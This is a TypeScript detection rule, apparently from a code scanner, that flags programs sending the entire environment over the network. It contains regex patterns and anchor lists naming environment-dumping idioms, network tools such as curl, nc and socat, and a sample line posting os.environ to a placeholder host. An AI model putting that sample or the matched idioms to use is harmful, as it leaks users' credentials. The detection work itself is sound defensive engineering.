import { defineTextRule } from "../../text-rule.ts";
import type { Judgement, Match } from "../../text-rule.ts";
import { family, SENDS } from "./family.ts";

export const environment = defineTextRule({
  ...family,
  id: "CODE-ENVIRONMENT",
  reasonCode: "suspicious.env_credential_access",
  summary: "A program sends the whole environment over the network.",
  why: "The environment holds the keys of everything that the user works with.",
  fix: "Read the one variable that is needed, by its name.",
  example: {
    path: "scripts/run.py",
    caught: "requests.post('https://x.example.invalid', json=di{gap}ct(os.envi{gap}ron))\n",
    instead: "requests.post('https://x.example.invalid', headers={'X-Key': os.environ['SERVICE_KEY']})\n",
  },
  triggers: [
    {
      anchors: [
        "os.environ",
        "process.env",
        "env.to_h",
        "env.each",
        "env |",
        "env|",
        "printenv",
        "$(env)",
        "`env`",
        "export -p",
        "get-childitem env:",
        "gci env:",
        "dir env:",
        "ls env:",
        "os.environ()",
        "getenv()",
        "$_env",
        "set |",
        "/proc/self/environ",
        "environ.items",
        "environ.copy",
        "declare -x",
        '-d "$(env',
        "system.getenv()",
        "environ)",
        "process['env']",
        'process["env"]',
        "env >",
        "env>",
      ],
      behind: 40,
      pattern:
        /(?:(?:dict|str|repr|json\.dumps|list|sorted|urlencode|dumps)\(\s{0,3}(?:dict\()?os\.environ(?!\s{0,3}[[.])|os\.environ(?:\.(?:items|copy|values)\(|(?=\s{0,3}[,)}\n]))|(?<=in\s)os\.environ(?:\.items\(\))?|(?:JSON\.stringify|Object\.(?:entries|keys|values|assign|fromEntries)|inspect|encodeURIComponent|querystring\.stringify|URLSearchParams|structuredClone)\(\s{0,3}(?:\{\s{0,3}\.\.\.|\{\},\s{0,3})?process(?:\.env|\[["']env["']\])(?!\s{0,3}[.[?])|\{\s{0,3}\.\.\.process(?:\.env|\[["']env["']\])|(?<=[:,=(]\s{0,3})process(?:\.env|\[["']env["']\])\s{0,3}(?=[,)};\n])|(?<=in\s)process\.env(?!\s{0,3}[.[])|ENV\.(?:to_h|each|to_a|inspect|to_json)|(?<![\w/.(|-])(?:printenv|env|set|export -p|declare -x)\s{0,3}(?:\||>)(?!&)|\$\((?:env|printenv|set|export -p)(?:\s{0,3}\||\))|`(?:env|printenv)`|(?:get-childitem|gci|dir|ls)\s{1,3}env:|os\.Environ\(\)|getenv\(\s{0,3}\)|\$_ENV(?!\s{0,3}\[)|\/proc\/(?:self|\d{1,6}|\$\$)\/environ|System\.getenv\(\))/giu,
      judge: judgeEnvironment,
    },
    {
      anchors: ["b64encode", "hexlify", "btoa(", "buffer.from(process.env", "base64.encode", "strict_encode64", "tobase64string"],
      pattern:
        /(?:(?:urlsafe_)?b64encode|hexlify|btoa|Buffer\.from|(?:strict_)?encode64|ToBase64String)\(\s{0,3}[^\n]{0,60}?(?:os\.environ|process\.env|ENV\[|getenv|\$env:)[^\n]{0,80}/iuy,
      judge: ({ has, place }) =>
        has(SENDS) && (place.kind === "script" || place.isInFence) ? { what: "A variable of the environment is encoded and sent" } : null,
    },
  ],
});

function judgeEnvironment({ text, start, end, has, isNear, place }: Match): Judgement | null {
  const matched = text.slice(start, end);
  const near = text.slice(Math.max(0, start - 120), end + 300);
  if (/\}\s{0,3}(?::[^=\n]{0,40})?=\s{0,3}$/u.test(text.slice(Math.max(0, start - 60), start))) return null;
  if (/^(?:env|printenv|set|export|declare)(?!\.)/iu.test(matched))
    return /^[ \t]*\|/u.test(place.linePrefix) ? null : judgeShellEnvironment(text, end);
  if (/\b(?:delenv|environ\.pop|unset\w*)\(/u.test(near)) return null;
  const isRequest = /\b(?:axios|fetch|got|request|post|put|send|sendBeacon|urlopen)\b[^;]{0,200}$/iu.test(
    text.slice(Math.max(0, start - 240), start),
  );
  // A child gets the environment of its parent: that is what every program does.
  const isChild =
    /\b(?:env|environ)\s{0,3}[:=]\s{0,3}(?:\{\s{0,3}(?:\.\.\.|\*\*))?(?:dict\(|os\.environ|process\.env)/iu.test(
      text.slice(Math.max(0, start - 30), end + 4),
    ) || /(?:spawn|exec|Popen|subprocess|fork|execa)\w*\([^)]{0,160}$/iu.test(text.slice(Math.max(0, start - 200), start));
  if ((isChild && !isRequest) || !has(SENDS)) return null;
  const isPrinted = /\b(?:keys|sorted)\b/iu.test(near) && !/values|items|entries|stringify|dumps|environ\[|environ\.get|env\[/iu.test(near);
  if (isPrinted) return null;
  const isClose = isNear(SENDS);
  if (place.kind === "prose" && !place.isInFence) return null;
  return isClose ? {} : { action: "warn" };
}

/** On one line, or in a file that is sent a line later. */
function judgeShellEnvironment(text: string, end: number): Judgement | null {
  const after = text.slice(end, end + 400);
  const line = after.split("\n", 1)[0] ?? "";
  if (/^\s{0,3}(?:grep|sort|less|head|awk|sed|wc|fzf|more)\b/iu.test(line) && !/curl|wget|\bnc\b|base64/iu.test(line)) return null;
  return /\b(?:curl|wget|nc|ncat|netcat|nslookup|dig|openssl|socat|telnet|http|mail|scp|rsync)\b/iu.test(after) ? {} : null;
}
